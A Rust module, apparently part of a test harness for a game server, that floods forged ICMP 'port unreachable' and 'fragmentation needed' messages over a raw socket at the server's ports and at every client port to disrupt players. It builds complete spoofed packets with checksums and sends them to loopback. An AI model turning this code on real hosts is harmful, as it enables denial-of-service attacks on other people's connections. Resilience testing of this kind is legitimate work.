//! Forged ICMP "port unreachable" about the ports from which the ordinary players play, again and again, and about every other
//! port from which somebody may play (ruling C6). Also "fragmentation needed", which says that only small packets reach them.
//! Needs root.

use std::{
    io::ErrorKind,
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

use protocol::Dialect;
use socket2::{Domain, Protocol, Socket, Type};

use super::{ATTACKER, AttackOutcome, Target, chance::AttackDice};

const LOOPBACK: Ipv4Addr = Ipv4Addr::LOCALHOST;
/// The ports that Linux gives to clients.
const CLIENT_PORTS: std::ops::Range<u16> = 32_768..61_000;
/// With the ordinary players' ports, some thirty thousand messages a second.
const PORTS_AT_ONCE: usize = 8;
const PAUSE: Duration = Duration::from_millis(5);
const UNREACHABLE: u8 = 3;
const OF_PORT: u8 = 3;
const FRAGMENTATION_NEEDED: u8 = 4;
/// What is claimed to fit: the least that Linux believes by default is 552.
const MTU_BYTES: u16 = 600;
const UDP: u8 = 17;
/// The headers of IP and UDP.
const HEADERS_BYTES: u16 = 28;
/// What is claimed to have been sent: longer than what most dialects say.
const QUOTED_BYTES: u16 = 40;

pub fn of_a_third(target: &Target<'_>, until: Instant) -> anyhow::Result<AttackOutcome> {
    sweep(target, until, (ATTACKER, OF_PORT))
}

/// Who can send from there is the player, or pretends to be.
pub fn of_the_players(target: &Target<'_>, until: Instant) -> anyhow::Result<AttackOutcome> {
    sweep(target, until, (LOOPBACK, OF_PORT))
}

/// Whoever is on the way may say this, so it may come from anywhere.
pub fn narrow_way(target: &Target<'_>, until: Instant) -> anyhow::Result<AttackOutcome> {
    sweep(target, until, (ATTACKER, FRAGMENTATION_NEEDED))
}

/// Goes through all doors and ports, again and again, at a bounded rate. The ordinary players' own come in every round.
fn sweep(target: &Target<'_>, until: Instant, (from, code): (Ipv4Addr, u8)) -> anyhow::Result<AttackOutcome> {
    let socket = match Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4)) {
        Err(error) if error.kind() == ErrorKind::PermissionDenied => return Ok(AttackOutcome::LeftOut("needs root")),
        socket => socket?,
    };
    socket.bind(&SocketAddr::from((from, 0)).into())?;
    let mut doors: Vec<u16> = Vec::new();
    for dialect in Dialect::with_ports() {
        doors.push(target.node.door(dialect)?.port());
    }
    // The ports of lobbies in use are the first ones.
    doors.extend(20_000..20_004);
    let players = target.ordinary.ports();
    anyhow::ensure!(!players.is_empty(), "no ordinary player has a port");
    let (mut chance, mut sent) = (AttackDice::new(0x1c3b), 0);
    let to = SocketAddr::V4(SocketAddrV4::new(LOOPBACK, 0)).into();
    let mut others = CLIENT_PORTS.cycle();
    while Instant::now() < until {
        for port in players.iter().copied().chain(others.by_ref().take(PORTS_AT_ONCE)) {
            for door in &doors {
                sent += u64::from(socket.send_to(&unreachable((*door, port), code, &mut chance), &to).is_ok());
            }
        }
        thread::sleep(PAUSE);
    }
    Ok(AttackOutcome::Done(sent))
}

/// What a system would answer to a datagram from the door to that port if nobody listened there, or if it were too long.
fn unreachable((door, port): (u16, u16), code: u8, chance: &mut AttackDice) -> Vec<u8> {
    let mut message = vec![UNREACHABLE, code, 0, 0, 0, 0];
    message.extend(if code == FRAGMENTATION_NEEDED { MTU_BYTES } else { 0 }.to_be_bytes());
    message.extend([0x45, 0]);
    message.extend((HEADERS_BYTES + QUOTED_BYTES).to_be_bytes());
    message.extend([0, 1, 0x40, 0, 64, UDP, 0, 0]);
    message.extend(LOOPBACK.octets());
    message.extend(LOOPBACK.octets());
    message.extend(door.to_be_bytes());
    message.extend(port.to_be_bytes());
    message.extend((8 + QUOTED_BYTES).to_be_bytes());
    message.extend([0, 0]);
    chance.fill(&mut message, QUOTED_BYTES.into());
    let sum = checksum(&message);
    message[2..4].copy_from_slice(&sum.to_be_bytes());
    message
}

/// The checksum of ICMP (RFC 792): the ones' complement of the ones' complement sum.
fn checksum(message: &[u8]) -> u16 {
    let words = message.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)));
    let mut sum: u32 = words.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_with_its_checksum_sums_up_to_nothing() {
        let message = unreachable((1, 2), OF_PORT, &mut AttackDice::new(7));
        assert_eq!((message.len(), checksum(&message)), (8 + 28 + 40, 0));
        assert_eq!(checksum(&[0x45, 0, 0xff, 0xff, 1]), 0xffff - 0x4600);
    }
}
